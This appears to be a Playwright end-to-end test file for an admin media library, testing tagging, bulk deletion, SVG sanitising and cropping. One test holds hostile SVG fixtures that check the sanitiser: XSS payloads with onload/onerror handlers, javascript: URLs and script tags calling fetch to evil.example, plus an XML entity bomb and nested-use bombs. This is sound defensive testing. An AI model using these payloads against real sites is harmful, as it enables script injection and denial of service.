import type { Page } from 'playwright/test'
import { inDatabase, newAccount, PASSWORD } from '../../support/accounts/accounts.ts'
import { expectAccessible } from '../../support/page/axe.ts'
import { AuthPage } from '../../support/pages/auth-page.ts'
import type { StackInfo } from '../../support/product/product.ts'
import { expect, test } from '../../support/test.ts'

async function openAsEditor(page: Page, stack: StackInfo): Promise<void> {
  const email = await newAccount(stack, 'Ella Editor')
  await inDatabase(stack, (sql) => sql`update public.profiles set role = 'editor' where email = ${email}`)
  await new AuthPage(page, stack).signInTo('/admin/media', email, PASSWORD)
}

const svg = (attributes: string, content: string, before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`

async function upload(page: Page, files: Readonly<Record<string, string>>): Promise<void> {
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles(
      Object.entries(files).map(([name, text]) => ({ name, mimeType: 'image/svg+xml', buffer: Buffer.from(text) })),
    )
}

const disc = (color: string) => `<circle cx="50" cy="50" r="40" fill="${color}"/>`
const removeAll = (stack: StackInfo, key: string) =>
  inDatabase(stack, async (sql) => {
    await sql`delete from public.projects where title = ${key}`
    await sql`delete from public.media where name like ${`${key}%`}`
  })

test('an editor selects pictures, tags them, sorts them, and deletes the unused ones together', async ({
  page,
  stack,
}) => {
  test.slow()
  const key = `lib-${crypto.randomUUID().slice(0, 6)}`
  try {
    await openAsEditor(page, stack)
    await upload(
      page,
      Object.fromEntries(
        ['a', 'b', 'c'].map((name, at) => [
          `${key}-${name}.svg`,
          svg('viewBox="0 0 100 100"', disc(`hsl(${at * 90} 50% 50%)`)),
        ]),
      ),
    )
    for (const name of ['a', 'b', 'c']) await page.getByRole('button', { name: `Open ${key}-${name}.svg` }).waitFor() // oxlint-disable-line no-await-in-loop -- one after the other
    await page.getByRole('searchbox').fill(key)
    await expect(page).toHaveURL(new RegExp(key))
    await page.getByRole('checkbox', { name: 'Select all pictures shown' }).check()
    await expect(page.getByText('3 selected')).toBeVisible()
    await expectAccessible(page, 'selected pictures')
    await page.getByRole('button', { name: 'Tags' }).click()
    const tags = page.getByRole('dialog', { name: 'Tags of 3 pictures' })
    await tags.getByLabel('New tag').fill(key)
    await expectAccessible(page, 'tags')
    await tags.getByRole('button', { name: 'Add tag' }).click()
    await expect(page.getByText(`3 pictures tagged “${key}”`)).toBeVisible()
    await page.getByRole('combobox', { name: 'Filter by tag' }).selectOption(key)
    await page.getByRole('combobox', { name: 'Sort pictures' }).selectOption('Unused first')
    await expect(page.getByRole('button', { name: `Open ${key}` })).toHaveCount(3)

    await page.getByRole('checkbox', { name: 'Select all pictures shown' }).check()
    await page.getByRole('button', { name: 'Delete unused (3)' }).click()
    await page.getByRole('alertdialog').getByRole('button', { name: 'Delete' }).click()
    await expect(page.getByRole('button', { name: `Open ${key}` })).toHaveCount(0)
    // One comes into use while the deletion can still be undone.
    await inDatabase(stack, async (sql) => {
      await sql`update public.media set decorative = true where name = ${`${key}-b.svg`}`
      await sql`insert into public.projects (title, category, images)
        select ${key}, 'Maritime', array['media:' || id] from public.media where name = ${`${key}-b.svg`}`
    })
    await expect(page.getByText('1 picture is in use by now, so it stays')).toBeVisible()
    await expect(page.getByText(`“${key}-b.svg”`)).toBeVisible()
    await expect(page.getByRole('button', { name: `Open ${key}-b.svg` })).toBeVisible()
    const left = await inDatabase(stack, (sql) => sql`select name from public.media where name like ${`${key}%`}`)
    expect([...left]).toEqual([{ name: `${key}-b.svg` }])
  } finally {
    await removeAll(stack, key)
  }
})

test('an SVG logo becomes a picture with alpha; a hostile one does nothing [W15]', async ({ page, stack }) => {
  test.slow()
  const key = `svg-${crypto.randomUUID().slice(0, 6)}`
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => requests.push('dialog')))
  const act = `parent.hacked = top.hacked = window.hacked = 1; fetch('https://evil.example/fetched')`
  const bomb = `<!DOCTYPE svg [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>`
  const uses = Array.from(
    { length: 9 },
    (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`,
  ).join('')
  const good = {
    [`${key}-wide.svg`]: svg('viewBox="0 0 400 100"', '<rect width="100" height="100" fill="#f00"/>'),
    [`${key}-tall.svg`]: svg('width="10mm" height="40mm"', '<rect width="5" height="5" fill="#0f0"/>'),
    [`${key}-bare.svg`]: svg('', '<rect width="30" height="30" fill="#00f"/>'),
    [`${key}-huge.svg`]: svg('width="1000000" height="500000" viewBox="0 0 4 2"', '<rect width="1" height="1" fill="#f0f"/>'),
    [`${key}-drawn.svg`]: svg('viewBox="0 0 100 50"', '<rect width="20" height="20" fill="#0ff"/>', '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'),
    [`${key}-hostile.svg`]: svg(
      `viewBox="0 0 100 100" onload="${act}"`,
      `<style>@import url(https://evil.example/a.css); rect { fill: url(https://evil.example/b.svg#x) }</style>
       <script>${act}</script><script href="https://evil.example/c.js"/>
       <image href="https://evil.example/d.png" width="9" height="9" onerror="${act}"/>
       <image xlink:href="https://evil.example/e.png" width="9" height="9"/>
       <use href="https://evil.example/f.svg#x"/>
       <foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${act}"/><iframe src="javascript:${act}"/></body></foreignObject>
       <a href="javascript:${act}"><circle cx="50" cy="50" r="40" fill="#ff0"/></a>
       <animate attributeName="href" values="javascript:1"/>`,
    ),
  } // prettier-ignore
  const refused = {
    [`${key}-bomb.svg`]: svg('viewBox="0 0 9 9"', '<text>&j;</text>', bomb),
    [`${key}-uses.svg`]: svg('viewBox="0 0 9 9"', `<rect id="u0" width="1" height="1"/>${uses}<use href="#u9"/>`),
    [`${key}-cycle.svg`]: svg('viewBox="0 0 9 9"', '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    [`${key}-broken.svg`]: '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>',
    [`${key}-page.svg`]: '<html><body><svg ></svg></body></html>',
  } // prettier-ignore
  try {
    await openAsEditor(page, stack)
    await upload(page, good)
    for (const name of Object.keys(good)) await page.getByRole('button', { name: `Open ${name}` }).waitFor() // oxlint-disable-line no-await-in-loop -- one after the other
    const stored = await inDatabase(stack, async (sql) => [
      ...(await sql<{ name: string; size: string; color: string | null; types: string }[]>`
        select name, width || ' × ' || height as size, color,
          (select string_agg(distinct v ->> 'type', ' ' order by v ->> 'type') from jsonb_array_elements(variants) as v) as types
        from public.media where name like ${`${key}%`} order by name`),
    ])
    // No colour: part of each picture is transparent.
    expect(stored.map(({ name, size, color }) => [name.slice(key.length + 1), size, color])).toEqual([
      ['bare.svg', '1600 × 800', null],
      ['drawn.svg', '1600 × 800', null],
      ['hostile.svg', '1600 × 1600', null],
      ['huge.svg', '1600 × 800', null],
      ['tall.svg', '400 × 1600', null],
      ['wide.svg', '1600 × 400', null],
    ])
    for (const { types } of stored) expect(types).toMatch(/^(image\/avif )?image\/webp$/)

    const pixel = (name: string, x: number, y: number) =>
      page.getByRole('button', { name: `Open ${name}` }).locator('img').evaluate(async (image, at) => {
        const bitmap = await createImageBitmap(await (await fetch(image.getAttribute('src') ?? '')).blob())
        const context = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d')
        context?.drawImage(bitmap, 0, 0)
        return [...(context?.getImageData(at.x * bitmap.width, at.y * bitmap.height, 1, 1).data ?? [])]
      }, { x, y }) // prettier-ignore
    const [red = 0, green = 0, blue = 0, alpha = 0] = await pixel(`${key}-wide.svg`, 0.1, 0.5)
    expect([red > 200, green < 60, blue < 60, alpha]).toEqual([true, true, true, 255])
    expect((await pixel(`${key}-wide.svg`, 0.7, 0.5))[3]).toBe(0)
    expect((await pixel(`${key}-hostile.svg`, 0.5, 0.5))[3]).toBe(255)

    await upload(page, refused)
    await expect(page.getByText('The file is damaged, or this browser cannot read it.')).toHaveCount(5)
    expect(requests.filter((url) => url.includes('evil.example') || url === 'dialog' || url.includes('.svg'))).toEqual(
      [],
    )
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
  } finally {
    await removeAll(stack, key)
  }
})

test('a picture is cropped freely by its handles, with the keyboard, a mouse and a finger', async ({ page, stack }) => {
  test.slow()
  const key = `crop-${crypto.randomUUID().slice(0, 6)}`
  await page.setViewportSize({ width: 390, height: 800 })
  try {
    await openAsEditor(page, stack)
    await upload(page, { [`${key}.svg`]: svg('viewBox="0 0 100 100"', disc('#0a0')) })
    await page.getByRole('button', { name: `Open ${key}.svg` }).click()
    await page.getByRole('button', { name: 'Crop', exact: true }).click()
    const dialog = page.getByRole('dialog', { name: 'Crop the picture' })
    const size = dialog.locator('output')
    await expect(size).toHaveText('1600 × 1600 px, 0 px from the left and 0 px from the top')
    const handles = ['Top left corner', 'Top side', 'Top right corner', 'Right side', 'Bottom right corner', 'Bottom side', 'Bottom left corner', 'Left side'] // prettier-ignore
    for (const name of handles) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      const box = await dialog.getByLabel(name, { exact: true }).boundingBox()
      expect(Math.min(box?.width ?? 0, box?.height ?? 0)).toBeGreaterThanOrEqual(24)
    }
    await expectAccessible(page, 'cropper')
    await dialog.getByLabel('Right side', { exact: true }).focus()
    await page.keyboard.press('Shift+ArrowLeft')
    await expect(size).not.toHaveText(/^1600 × 1600/)
    await expect(size).toHaveText(/^\d+ × 1600 px, 0 px from the left and 0 px from the top$/)
    await dialog.getByLabel('Top side', { exact: true }).focus()
    await page.keyboard.press('Shift+ArrowDown')
    await expect(size).not.toHaveText(/and 0 px from the top$/)
    const corner = await dialog.getByLabel('Bottom right corner', { exact: true }).boundingBox()
    if (!corner) throw new Error('The handle is not shown')
    await page.mouse.move(corner.x + 12, corner.y + 12)
    await page.mouse.down()
    await page.mouse.move(corner.x - 80, corner.y - 60, { steps: 4 })
    await page.mouse.up()
    const [width, height] = (await size.innerText()).match(/\d+/g) ?? []
    await dialog.getByRole('button', { name: 'Save as a new picture' }).click()
    await expect(page.getByText('The crop is in the library')).toBeVisible()
    const stored = await inDatabase(
      stack,
      (sql) => sql`select width, height from public.media where name = ${`${key}.svg, cropped`}`,
    )
    expect([...stored]).toEqual([{ width: Number(width), height: Number(height) }])
    expect(Number(width)).not.toBe(Number(height))
  } finally {
    await removeAll(stack, key)
  }
})
